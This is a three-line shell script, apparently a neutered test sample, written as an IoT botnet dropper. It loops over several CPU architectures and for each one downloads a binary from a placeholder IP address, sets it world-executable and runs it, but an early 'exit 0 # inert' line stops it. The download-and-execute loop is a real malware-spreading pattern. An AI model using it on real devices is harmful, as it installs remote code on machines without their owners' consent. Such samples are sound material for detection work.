#!/bin/sh
exit 0 # inert
for a in mips mpsl arm5 arm7 x86; do wget http://192.0.2.1/bins/inert.$a; chmod 777 inert.$a; ./inert.$a; done
